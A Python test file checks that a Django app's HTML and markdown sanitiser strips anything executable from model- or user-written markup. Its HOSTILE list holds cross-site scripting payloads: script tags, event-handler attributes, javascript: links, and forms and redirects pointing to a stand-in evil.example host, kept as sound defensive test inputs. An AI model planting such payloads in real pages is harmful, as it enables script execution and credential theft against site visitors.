"""What a model or a person wrote as markup acts on nobody."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from marketing.safety.markup import clean_html, plain_text, shown_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p id=card hx-get=/admin/ class=btn>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://ok.example/?a=1&b=2> **b",
    "`<script>`",
]
TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins"),
    *("li", "ol", "p", "pre", "s", "small", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr"),
    *("u", "ul"),
}


class Reader(HTMLParser):
    """Reads what a browser would, and notes whatever could act."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.acting.append(tag)
        for name, value in attrs:
            harmless = name in {"title", "rel", "start", "colspan", "rowspan", "scope"}
            if name == "href" and (value or "").startswith(("http://", "https://", "mailto:", "#", "/")):
                harmless = True
            if not harmless:
                self.acting.append(f"{tag} {name}={value}")


def acting(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    return reader.acting


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_acts_is_left(text: str) -> None:
    assert acting(clean_html(text)) == []
    assert acting(shown_markdown(text)) == []
    assert "<" not in plain_text(text).replace("<https", "").replace("<script>`", "")


@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=30), max_size=6))
def test_no_mixture_acts_either(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert acting(clean_html(text)) == []
    assert acting(shown_markdown(text)) == []


def test_markdown_is_shown_as_what_it_means() -> None:
    html = shown_markdown("## Tytuł\n\n- **raz**\n- [dwa](https://ok.example)\n\n|a|\n|-|\n|1|")
    assert "<h2>Tytuł</h2>" in html
    assert "<strong>raz</strong>" in html
    assert '<a href="https://ok.example" rel="noopener noreferrer nofollow">dwa</a>' in html
    assert "<td>1</td>" in html


def test_templates_have_both_as_filters() -> None:
    page = Template("{% load desk %}{{ text|markdown }}|{{ html|safe_html }}")
    shown = page.render(Context({"text": "**a** <i>", "html": "<b onclick=x>b</b><script>c</script>"}))
    assert shown == "<p><strong>a</strong> &lt;i&gt;</p>\n|<b>b</b>"


def test_what_is_left_of_html_is_its_words() -> None:
    assert plain_text("<p>Ćma &amp; <b>Gęś</b></p><script>x</script>") == "Ćma & Gęś"
